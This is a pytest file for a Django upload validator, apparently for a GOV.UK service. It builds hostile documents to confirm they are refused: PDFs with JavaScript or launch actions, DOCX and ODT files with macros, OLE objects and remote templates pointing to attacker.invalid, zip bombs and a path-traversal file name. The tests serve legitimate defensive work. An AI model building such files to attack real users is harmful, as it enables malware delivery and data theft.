"""Uploaded documents judged by what they contain (reviews/files.py): hostile PDFs, DOCX and ODT
files made on the spot are refused with a GOV.UK error and nothing is stored; zip bombs are
refused without inflating them into memory; names take the detected type's extension; each
report and each review's drafts have a quota; an oversized request is refused before it is read.
"""

import io
import tracemalloc
import zipfile
from pathlib import Path

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String

from reviews.files import document_inspect
from reviews.models import OverviewDraft, ReportVersion
from reviews.services.reports import report_upload
from tests.documents import DOCX, ODT_FILE, PDF, REL, docx_bytes, odt_bytes, pdf_bytes, zip_bytes

pytestmark = pytest.mark.django_db

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _catalog(**entries):
    def change(pdf: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            pdf.Root[f"/{key}"] = value(pdf) if callable(value) else value

    return change


def _annotation(pdf: pikepdf.Pdf, **entries) -> None:
    annotation = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 10, 10])))
    for key, value in entries.items():
        annotation[f"/{key}"] = value
    pdf.pages[0].Annots = Array([annotation])


def _embedded_exe(pdf: pikepdf.Pdf) -> Dictionary:
    exe = pikepdf.Stream(pdf, b"MZ\x90\x00 an invented program")
    spec = Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=exe))
    return Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), spec])))


def _js(script: str = "app.alert(1)") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(script))


def _launch(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = _embedded_exe(pdf)
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("invoice.exe"))


HOSTILE_PDFS = {
    # 1. JavaScript run when the PDF opens.
    "open-action-javascript": (pdf_bytes(_catalog(OpenAction=_js())), "JavaScript"),
    # The same, hidden in a compressed object stream.
    "javascript-in-object-stream": (
        pdf_bytes(
            _catalog(OpenAction=lambda pdf: pdf.make_indirect(_js())),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        "JavaScript",
    ),
    "document-level-javascript": (
        pdf_bytes(
            _catalog(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _js()]))))
        ),
        "JavaScript",
    ),
    # 2. Launch an embedded invoice.exe.
    "launch-and-embedded-exe": (pdf_bytes(_launch), "open other files or programs"),
    "embedded-file": (pdf_bytes(_catalog(Names=_embedded_exe)), "attached or embedded files"),
    "file-attachment-annotation": (
        pdf_bytes(lambda pdf: _annotation(pdf, Subtype=Name.FileAttachment)),
        "attached or embedded files",
    ),
    "page-open-action": (
        pdf_bytes(
            lambda pdf: _annotation(
                pdf, Subtype=Name.Link, AA=Dictionary(O=Dictionary(S=Name.URI, URI=String("x")))
            )
        ),
        "run actions",
    ),
    "xfa-form": (
        pdf_bytes(_catalog(AcroForm=Dictionary(Fields=Array(), XFA=String("<xdp/>")))),
        "XFA",
    ),
    "rich-media": (
        pdf_bytes(lambda pdf: _annotation(pdf, Subtype=Name.RichMedia)),
        "embedded media",
    ),
    # 3. A PDF header with a web page behind it.
    "pdf-header-then-html": (
        b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n",
        "must be a PDF, DOCX or ODT",
    ),
    "password-protected": (
        pdf_bytes(encryption=pikepdf.Encryption(user="secret", owner="secret")),
        "password",
    ),
}

_VBA = "application/vnd.ms-office.vbaproject"
HOSTILE_ZIPS = {
    # 4. The macro part renamed and its content types in lower case.
    "docx-renamed-macro-part": (
        docx_bytes(
            main="application/vnd.ms-word.document.macroenabled.main+xml",
            overrides={"/word/m.bin": _VBA},
            relationships=[
                '<Relationship Id="rId9" Target="m.bin" '
                'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
            ],
            parts={"word/m.bin": OLE_MAGIC},
        ),
        "macros",
    ),
    "docx-macro-by-default-extension": (
        docx_bytes(defaults={"bin": _VBA}, parts={"word/m.bin": b"not even OLE"}),
        "macros",
    ),
    "docx-macro-relationship-only": (
        docx_bytes(
            relationships=[
                '<Relationship Id="rId9" Target="m.xml" Type="http://schemas.microsoft.com/'
                'office/2006/relationships/VBAPROJECT"/>'
            ],
        ),
        "macros",
    ),
    # 5. An OLE object and ActiveX controls.
    "docx-ole-and-activex": (
        docx_bytes(
            overrides={
                "/word/embeddings/oleObject1.bin": "application/vnd.openxmlformats-"
                "officedocument.oleObject",
                "/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
            },
            relationships=[
                f'<Relationship Id="rId7" Type="{REL}/oleObject" '
                'Target="embeddings/oleObject1.bin"/>',
                f'<Relationship Id="rId8" Type="{REL}/control" Target="activeX/activeX1.xml"/>',
            ],
            parts={
                "word/embeddings/oleObject1.bin": OLE_MAGIC,
                "word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='urn:x'/>",
            },
        ),
        "embedded objects",
    ),
    "docx-ole-bytes-under-an-image-name": (
        docx_bytes(defaults={"png": "image/png"}, parts={"word/media/image1.png": OLE_MAGIC}),
        "macros or embedded objects",
    ),
    # 6. A remote template, fetched when Word opens the file.
    "docx-remote-template": (
        docx_bytes(
            parts={
                "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.'
                'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                f'Type="{REL}/attachedTemplate" Target="https://attacker.invalid/t.dotm" '
                'TargetMode="external"/></Relationships>'
            }
        ),
        "from outside it",
    ),
    "docx-hyperlink-to-a-file-share": (
        docx_bytes(
            relationships=[
                f'<Relationship Id="rId5" Type="{REL}/hyperlink" '
                'Target="file://attacker.invalid/share/x" TargetMode="External"/>'
            ]
        ),
        "from outside it",
    ),
    "docx-dtd": (
        docx_bytes(
            parts={
                "word/document.xml": '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaa">]>'
                "<d>&a;</d>"
            }
        ),
        "DTD",
    ),
    "docx-nested-archive": (
        docx_bytes(parts={"word/embeddings/Sheet.xlsx": zip_bytes({"a.xml": "<a/>"})}),
        "other files",
    ),
    # 7. An ODT with a Basic macro library, and one with a script event.
    "odt-basic-macro": (
        odt_bytes(
            manifest_entries='<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml"'
            ' manifest:media-type="text/xml"/>',
            parts={"Basic/Standard/Module1.xml": "<script:module xmlns:script='urn:x'/>"},
        ),
        "macros",
    ),
    "odt-macro-declared-in-the-manifest-only": (
        odt_bytes(
            manifest_entries='<manifest:file-entry manifest:full-path="basic/" '
            'manifest:media-type="application/vnd.sun.star.basic"/>'
        ),
        "macros",
    ),
    "odt-script-event": (
        odt_bytes(
            body='<office:event-listeners><script:event-listener script:language="ooo:script" '
            'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main"/>'
            "</office:event-listeners>"
        ),
        "macros",
    ),
    "odt-linked-image": (
        odt_bytes(body='<draw:image xlink:href="https://attacker.invalid/pixel.png"/>'),
        "from outside it",
    ),
    "odt-ole-object": (
        odt_bytes(
            manifest_entries='<manifest:file-entry manifest:full-path="Object 1" '
            'manifest:media-type="application/vnd.sun.star.oleobject"/>',
            parts={"Object 1": OLE_MAGIC},
        ),
        "embedded objects",
    ),
    "zip-without-a-document": (zip_bytes({"readme.txt": "hello"}), "must be a PDF, DOCX or ODT"),
    "docx-by-part-names-only": (
        zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}),
        "must be a PDF, DOCX or ODT",
    ),
}
HOSTILE = HOSTILE_PDFS | HOSTILE_ZIPS


def _media_files(settings) -> list[Path]:
    media = Path(settings.MEDIA_ROOT)
    return [path for path in media.rglob("*") if path.is_file()] if media.exists() else []


@pytest.mark.parametrize(("content", "message"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_documents_are_refused_through_the_service(report, settings, content, message):
    with pytest.raises(ValidationError, match=message):
        report_upload(
            report=report, actor=report.lead, file=SimpleUploadedFile("report.pdf", content)
        )
    assert not ReportVersion.objects.exists()
    assert _media_files(settings) == []


@pytest.mark.parametrize(("content", "message"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_documents_get_a_govuk_error_on_the_upload_page(
    client, report, settings, content, message
):
    client.force_login(report.lead)
    response = client.post(
        reverse("reviews:report_upload", args=[report.review.reference, report.pk]),
        {"file": SimpleUploadedFile("report.docx", content)},
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert "<title>Error: " in html
    assert "govuk-error-summary" in html
    assert message in html
    assert not ReportVersion.objects.exists()
    assert _media_files(settings) == []


@pytest.mark.parametrize("name", ["launch-and-embedded-exe", "docx-renamed-macro-part"])
def test_hostile_drafts_are_refused_on_the_overview_page(client, overview, settings, name):
    content, message = HOSTILE[name]
    before = _media_files(settings)
    client.force_login(overview.author)
    response = client.post(
        reverse("reviews:overview_upload", args=[overview.review.reference]),
        {"file": SimpleUploadedFile("draft.pdf", content)},
    )
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not OverviewDraft.objects.exists()
    assert _media_files(settings) == before


CLEAN = {
    "pdf": (PDF, "application/pdf"),
    # A destination (not an action) to open at, as LibreOffice writes.
    "pdf-open-at-page-one": (
        pdf_bytes(_catalog(OpenAction=lambda pdf: Array([pdf.pages[0].obj, Name.Fit]))),
        "application/pdf",
    ),
    "docx": (DOCX, "wordprocessingml"),
    "docx-with-a-web-link": (
        docx_bytes(
            relationships=[
                f'<Relationship Id="rId5" Type="{REL}/hyperlink" '
                'Target="https://www.gov.uk/" TargetMode="External"/>'
            ]
        ),
        "wordprocessingml",
    ),
    "docx-with-a-picture": (
        docx_bytes(defaults={"png": "image/png"}, parts={"word/media/i.png": b"\x89PNG\r\n"}),
        "wordprocessingml",
    ),
    "odt": (ODT_FILE, "opendocument.text"),
    "odt-with-a-web-link": (
        odt_bytes(body='<text:p><text:a xlink:href="https://www.gov.uk/">a</text:a></text:p>'),
        "opendocument.text",
    ),
}


@pytest.mark.parametrize(("content", "content_type"), CLEAN.values(), ids=CLEAN.keys())
def test_ordinary_documents_are_accepted(content, content_type):
    detected, sha256 = document_inspect(SimpleUploadedFile("x", content))
    assert content_type in detected
    assert len(sha256) == 64


def _bomb(size: int) -> bytes:
    """A DOCX that is a few hundred KB on disk and ``size`` bytes once opened."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(DOCX)) as source, zipfile.ZipFile(buffer, "w") as bomb:
        for info in source.infolist():
            bomb.writestr(info, source.read(info), zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo("word/media/big.png")
        info.compress_type = zipfile.ZIP_DEFLATED
        with bomb.open(info, "w", force_zip64=True) as big:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(size // len(chunk)):
                big.write(chunk)
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_without_inflating_it_into_memory(report, settings):
    bomb = _bomb(190 * 1024 * 1024)
    assert len(bomb) < 400 * 1024
    tracemalloc.start()
    try:
        with pytest.raises(ValidationError, match="too large once opened"):
            report_upload(report=report, actor=report.lead, file=SimpleUploadedFile("r.docx", bomb))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 16 * 1024 * 1024
    assert not ReportVersion.objects.exists()
    assert _media_files(settings) == []


def test_a_zip_whose_header_understates_an_entry_is_refused():
    bomb = bytearray(_bomb(8 * 1024 * 1024))
    # The central directory claims 1 KB for the 8 MB entry: the entry is read to its real end
    # and checked, never trusted.
    central = bomb.rfind(b"word/media/big.png") - 46
    assert bomb[central : central + 4] == b"PK\x01\x02"
    bomb[central + 24 : central + 28] = (1024).to_bytes(4, "little")
    with zipfile.ZipFile(io.BytesIO(bytes(bomb))) as archive:
        assert archive.getinfo("word/media/big.png").file_size == 1024
    with pytest.raises(ValidationError):
        document_inspect(SimpleUploadedFile("r.docx", bytes(bomb)))


def test_too_many_entries_are_refused():
    many = docx_bytes(parts={f"word/media/{n}.png": b"" for n in range(2100)})
    with pytest.raises(ValidationError, match="too many parts"):
        document_inspect(SimpleUploadedFile("r.docx", many))


@pytest.mark.parametrize(
    ("name", "content", "shown"),
    [
        ("report.PdF", DOCX, "report.docx"),
        ("Police report.docx", PDF, "Police report.pdf"),
        ("notes", ODT_FILE, "notes.odt"),
        ("..\\..\\etc/passwd<x>.exe", PDF, "passwd_x_.pdf"),
    ],
)
def test_the_name_shown_takes_the_extension_of_what_the_file_is(report, name, content, shown):
    version = report_upload(
        report=report, actor=report.lead, file=SimpleUploadedFile(name, content)
    )
    assert version.display_name == shown


def test_a_report_has_a_quota_of_versions_and_bytes(report, settings):
    settings.SCR_REPORT_MAX_VERSIONS = 2
    for _ in range(2):
        report_upload(report=report, actor=report.lead, file=SimpleUploadedFile("r.pdf", PDF))
    stored = _media_files(settings)
    with pytest.raises(ValidationError, match="at most 2 versions"):
        report_upload(report=report, actor=report.lead, file=SimpleUploadedFile("r.pdf", PDF))
    settings.SCR_REPORT_MAX_VERSIONS = 20
    settings.SCR_REPORT_MAX_TOTAL_BYTES = 3 * len(PDF) - 1
    with pytest.raises(ValidationError, match="must total"):
        report_upload(report=report, actor=report.lead, file=SimpleUploadedFile("r.pdf", PDF))
    assert report.versions.count() == 2
    assert _media_files(settings) == stored


def test_the_quota_error_is_shown_on_the_upload_page(client, report, settings):
    settings.SCR_REPORT_MAX_VERSIONS = 1
    report_upload(report=report, actor=report.lead, file=SimpleUploadedFile("r.pdf", PDF))
    client.force_login(report.lead)
    response = client.post(
        reverse("reviews:report_upload", args=[report.review.reference, report.pk]),
        {"file": SimpleUploadedFile("r.pdf", PDF)},
    )
    assert response.status_code == 200
    assert "at most 1 version" in response.content.decode()
    assert report.versions.count() == 1


def test_overview_drafts_have_the_same_quota(client, overview, settings):
    settings.SCR_REPORT_MAX_VERSIONS = 1
    client.force_login(overview.author)
    url = reverse("reviews:overview_upload", args=[overview.review.reference])
    assert client.post(url, {"file": SimpleUploadedFile("d.pdf", PDF)}).status_code == 302
    before = _media_files(settings)
    response = client.post(url, {"file": SimpleUploadedFile("d.pdf", PDF)})
    assert "at most 1 version" in response.content.decode()
    assert OverviewDraft.objects.count() == 1
    assert _media_files(settings) == before


def test_an_oversized_request_is_refused_before_it_is_read(client, report, settings):
    settings.SCR_REPORT_MAX_BYTES = 1024 * 1024
    settings.SCR_CHRONOLOGY_MAX_BYTES = 1024 * 1024
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 64 * 1024
    client.force_login(report.lead)
    response = client.post(
        reverse("reviews:report_upload", args=[report.review.reference, report.pk]),
        {"file": SimpleUploadedFile("r.pdf", PDF + b"%" * (2 * 1024 * 1024))},
    )
    assert response.status_code == 400
    assert "there is a problem with the request" in response.content.decode()
    assert not ReportVersion.objects.exists()
    assert _media_files(settings) == []
